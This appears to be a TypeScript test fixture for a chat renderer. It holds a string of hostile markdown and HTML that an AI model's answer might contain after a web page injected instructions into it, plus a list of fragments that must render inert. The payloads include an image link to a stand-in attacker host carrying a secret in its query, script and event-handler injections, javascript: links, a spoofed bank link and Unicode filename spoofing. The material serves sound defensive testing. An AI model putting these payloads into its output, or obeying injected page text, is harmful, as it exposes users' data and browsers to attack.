/** What an answer can hold that its writer was talked into by a page. */
export const hostile = `![pixel](https://evil.example/p.png?secret=1)

<img src="https://evil.example/x" onerror="window.hacked = 1"> <script>window.hacked = 2</script>

<iframe src="https://evil.example/frame"></iframe>

[run](javascript:window.hacked=3) [data](data:text/html,<script>window.hacked=4</script>) [same](/agent/conversations)

[www.bank.example](https://evil.example/login) <https://user:pass@evil.example/>

[hidden]: https://evil.example/hidden "title"

turned \u202egpj.exe &#8238;too \u200b

| <b onclick="window.hacked=5">cell</b> | ![x](//evil.example/y) |
|---|---|
| <style>body { display: none }</style> | \`<svg onload=alert(1)>\` |
`;

/** What of it is to be read as it stands. */
export const hostileWords = [
  "https://evil.example/p.png?secret=1",
  '<img src="https://evil.example/x" onerror="window.hacked = 1">',
  "<script>window.hacked = 2</script>",
  "(javascript:window.hacked=3)",
  "(/agent/conversations)",
  "(evil.example)",
  "https://evil.example/hidden",
  "\\u{202e}gpj.exe",
  "\\u{202e}too",
  "\\u{200b}",
  "<style>body { display: none }</style>",
];
